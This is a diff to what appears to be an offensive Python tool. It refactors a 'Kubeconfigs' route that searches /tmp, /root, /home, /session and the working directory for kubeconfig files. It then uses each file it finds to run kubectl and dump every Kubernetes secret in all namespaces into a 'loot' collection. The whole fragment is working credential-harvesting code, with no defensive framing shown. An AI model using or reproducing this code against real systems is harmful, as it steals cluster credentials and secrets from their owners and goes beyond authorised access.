@@ -16,6 +16,7 @@ if TYPE_CHECKING:
     from .place import Place
 
 _SECRETS = "/api/v1/secrets"
+TOPS = ("/session", "/tmp", "/root", "/home")  # noqa: S108 - looked at, not used
 
 
 class OtherDoors(Route):
@@ -53,8 +54,7 @@ class Kubeconfigs(Route):
 
     def attempt(self, place: Place, loot: Loot) -> None:
         """Use every one."""
-        tops = ("/session", str(place.folder), "/tmp", "/root", "/home", str(Path.cwd()))  # noqa: S108
-        for top in tops:
+        for top in (*TOPS, str(place.folder), str(Path.cwd())):
             for path in sorted(Path(top).rglob("*"))[:20_000]:
                 if path.is_file() and ("kubeconfig" in path.name or path.parent.name == ".kube"):
                     loot.take(place.kubectl(f"--kubeconfig={path}", "get", "secrets", "-A", "-o", "yaml"))  # fmt: skip
